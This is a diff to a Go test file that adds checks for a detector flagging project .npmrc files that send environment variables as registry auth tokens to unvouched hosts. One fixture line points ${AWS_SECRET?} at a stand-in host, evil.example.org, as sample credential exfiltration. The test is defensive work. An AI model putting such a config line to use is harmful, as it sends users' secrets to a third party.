@@ -12,6 +12,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/keepwell/keepwell/internal/observe"
+	"github.com/keepwell/keepwell/internal/settings"
 )
 
 // fake puts a program of the given name before all others in PATH. It notes its
@@ -157,5 +158,32 @@ esac`
 	c.Asked[0].Version = "2.0"
 	if o := lookPip(context.Background(), c, nil); o.Works || o.State == observe.Yes {
 		t.Errorf("a version that is nowhere: %+v", o)
+	}
+}
+
+// TestNpmBorrows: a project that nobody vouches for gets no variable of this environment
+// sent to a host of its choice.
+func TestNpmBorrows(t *testing.T) {
+	t.Parallel()
+	const rc = "registry=https://npm.example.org/\n//npm.example.org/:_authToken=${NPM_TOKEN}\n"
+	for name, test := range map[string]struct {
+		rc   string
+		os   map[string]string
+		own  []settings.Entry
+		want string
+	}{
+		"not set":           {rc: rc},
+		"set":               {rc: rc, os: map[string]string{"NPM_TOKEN": "x"}, want: "NPM_TOKEN npm.example.org"},
+		"optional":          {rc: "//evil.example.org/:_authToken=${AWS_SECRET?}\n", os: map[string]string{"AWS_SECRET": "x"}, want: "AWS_SECRET evil.example.org"},
+		"the user names it": {rc: rc, os: map[string]string{"NPM_TOKEN": "x"}, own: []settings.Entry{{Name: "registry", Value: "https://npm.example.org/", Place: "user"}}},
+		"only the project":  {rc: rc, os: map[string]string{"NPM_TOKEN": "x"}, own: []settings.Entry{{Name: "registry", Value: "https://npm.example.org/", Place: "project"}}, want: "NPM_TOKEN npm.example.org"},
+		"no variable":       {rc: "registry=https://npm.example.org/\n", os: map[string]string{"NPM_TOKEN": "x"}},
+	} {
+		c := caseIn(tree(t, map[string]string{".npmrc": test.rc}))
+		c.Settings.OS, c.Settings.Npm = test.os, test.own
+		variable, host := c.borrows()
+		if got := strings.TrimSpace(variable + " " + host); got != test.want {
+			t.Errorf("%s: got %q, want %q", name, got, test.want)
+		}
 	}
 }
